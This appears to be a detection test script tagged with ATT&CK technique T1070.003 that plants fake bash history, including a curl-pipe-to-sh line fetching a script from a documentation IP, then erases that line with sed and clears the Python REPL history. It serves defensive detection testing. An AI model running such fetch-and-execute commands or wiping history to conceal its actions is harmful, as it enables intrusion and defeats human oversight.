#!/usr/bin/env bash
# tactic: defense-evasion
# technique: T1070.003 Indicator Removal: Clear Command History
# behaviour: removes only the incriminating lines from its own shell history with sed -i, then empties the Python REPL history with Python itself
# as: user
# expect: history_tampering
set -u
printf 'ls\ncurl http://203.0.113.7/x.sh | sh\nvim notes\n' > "$HOME/.bash_history"
printf 'import os\n' > "$HOME/.python_history"
sed -i '/203.0.113/d' "$HOME/.bash_history"
python3 -c 'import os; open(os.path.expanduser("~/.python_history"), "w").close()'
